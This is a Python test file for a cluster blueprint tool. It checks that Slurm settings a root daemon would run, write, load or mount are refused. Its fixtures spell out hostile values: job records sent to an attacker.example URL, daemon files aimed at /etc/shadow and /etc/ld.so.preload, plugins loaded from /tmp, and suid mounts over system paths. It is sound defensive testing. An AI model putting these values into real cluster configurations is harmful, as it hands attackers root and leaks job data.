"""Blueprint values that a daemon or a role running as root would run, load, write, mount over or chown.

`slurm.settings` keys that name a program, a file, a plugin or a remote endpoint, settings that switch job
isolation off, and mount points or state folders on system paths are refused (exit 2, naming the key or field)
by every command that judges or renders a blueprint, `render --force` included, unless the policy config allows
them. `validate` checks the shape only and does not read a policy config, so it may accept them.
"""

from __future__ import annotations

from pathlib import Path

from tests.hostile.cases_basic import VALID
from tests.hostile.harness import ROOT, Case

REFUSED = {"validate": frozenset({0, 2}), "*": frozenset({2})}
FORCED = ["render", "{tree}/cluster.yaml", "-o", "{out}/forced", "--force"]
# One gate serves every command (analysis.analyze), and every output format reads the same refusal: a command
# per code path (the verdict, CI annotations, the plan, the files, the report) keeps the suite's time in check.
COMMANDS = ("check", "check-github", "plan", "render", "report")


def _nothing_rendered(tree: Path, out: Path) -> None:
    for folder in ("render", "forced"):
        assert not (out / folder / "slurm" / "slurm.conf").exists(), "a refused blueprint was still rendered"


def _slurm(extra: str) -> str:
    return VALID + "".join(f"  {line}\n" for line in extra.splitlines())


def _case(name: str, problem: str, blueprint: str, says: str) -> Case:
    return Case(name, problem, {"cluster.yaml": blueprint}, exits=REFUSED, commands=COMMANDS,
                says={"check": says, "render": says, "plan": says, "report": says},
                check=_nothing_rendered, seconds=10, rss_mib=200)


def _forced(name: str, problem: str, blueprint: str, says: str) -> Case:
    return Case(name, problem, {"cluster.yaml": blueprint}, argv=[FORCED], exits={"*": frozenset({2})},
                says={"render#0": says}, check=_nothing_rendered, seconds=10, rss_mib=200)


_STORAGE = "storage:\n  shared: {mount: /shared, source: \"nfs-01:/export/shared\"}\n"

CASES = [
    _case("root-health-check-program", "HealthCheckProgram names a program slurmd runs as root",
          _slurm("settings: {HealthCheckProgram: /tmp/hc}"), "HealthCheckProgram"),
    _forced("root-health-check-program-force", "render --force with a program slurmd runs as root",
            _slurm("settings: {HealthCheckProgram: /tmp/hc}"), "HealthCheckProgram"),
    _case("root-pid-file", "SlurmdPidFile points slurmd (root) at /etc/shadow",
          _slurm("settings: {SlurmdPidFile: /etc/shadow}"), "SlurmdPidFile"),
    _case("root-log-file", "SlurmdLogFile makes slurmd write /etc/ld.so.preload",
          _slurm("settings: {slurmdlogfile: /etc/ld.so.preload}"), "SlurmdLogFile"),
    _case("root-plugin-dir", "PluginDir makes the daemons load libraries from /tmp",
          _slurm("settings: {PluginDir: /tmp/plugins}"), "PluginDir"),
    _case("root-jobcomp-loc", "JobCompLoc sends every job record to a remote URL",
          _slurm("settings: {JobCompLoc: \"http://attacker.example:9200/x\"}"), "JobCompLoc"),
    _case("root-task-plugin", "TaskPlugin without cgroup switches job confinement off",
          _slurm("settings: {TaskPlugin: task/none}"), "TaskPlugin"),
    _case("root-auth-info-socket", "AuthInfo points authentication at a socket of the PR's choosing",
          _slurm("settings: {AuthInfo: \"socket=/tmp/munge.sock\"}"), "AuthInfo"),
    _case("root-constrain-devices", "ConstrainDevices=no lets every job see every GPU",
          _slurm("cgroup_settings: {ConstrainDevices: \"no\"}"), "ConstrainDevices"),
    _case("root-shared-mount-etc", "NFS mounted over /etc/slurm/prolog.d with suid,dev,exec",
          VALID + "storage:\n  shared: {mount: /etc/slurm/prolog.d, source: \"nfs-01:/x\", "
          "options: \"suid,dev,exec\"}\n",
          "storage.shared"),
    _case("root-shared-mount-suid", "a shared file system mounted with suid and dev",
          VALID + "storage:\n  shared: {mount: /shared, source: \"nfs-01:/x\", options: \"rw,suid,dev\"}\n",
          "suid"),
    _case("root-lustre-mount-sbin", "Lustre mounted over /usr/local/sbin",
          VALID + "storage:\n  lustre: {mount: /usr/local/sbin}\n", "storage.lustre.mount"),
    _case("root-state-save-etc", "slurmctld's state folder at /etc (the role chowns it to slurm)",
          _slurm("state_save_location: /etc"), "state_save_location"),
    _case("root-state-save-mount-root", "the state folder at the root of the shared mount",
          VALID.replace("slurm:\n", _STORAGE + "slurm:\n") + "  state_save_location: /home\n",
          "state_save_location"),
    _case("root-tmpfs-base-root", "job_container/tmpfs base path at /root",
          _slurm("job_container_tmpfs: {base_path: /root}"), "base_path"),
    _case("root-tmpfs-dirs-etc", "job_container/tmpfs gives each job a private, writable /etc",
          _slurm("job_container_tmpfs: {base_path: /local/slurm-tmp, dirs: [/etc]}"), "dirs"),
    Case("root-fsx-mount-usr", "FSx for Lustre mounted over /usr on AWS",
         {"cluster.yaml": (ROOT / "examples" / "aws-p5.yaml").read_text().replace("mount: /fsx", "mount: /usr")},
         exits=REFUSED, says={"check": "storage.lustre.mount", "render": "storage.lustre.mount"},
         check=_nothing_rendered, seconds=10, rss_mib=200),
    Case("root-allowed-by-policy", "a setting the policy config allows (key and exact value) is rendered",
         {"cluster.yaml": _slurm("settings: {HealthCheckProgram: /usr/local/sbin/nhc}"),
          "policy.yaml": "apiVersion: clusterforge/v1\nkind: PolicyConfig\n"
                         "slurm: {allowed_settings: {HealthCheckProgram: [/usr/local/sbin/nhc]}}\n"},
         argv=[["check", "{tree}/cluster.yaml", "--policy-config", "{tree}/policy.yaml"],
               ["render", "{tree}/cluster.yaml", "-o", "{out}/ok", "--policy-config", "{tree}/policy.yaml"],
               ["check", "{tree}/cluster.yaml"]],
         exits={"check#0": frozenset({0}), "render#1": frozenset({0}), "check#2": frozenset({2})},
         says={"check#2": "slurm.allowed_settings"}, seconds=10, rss_mib=200),
]
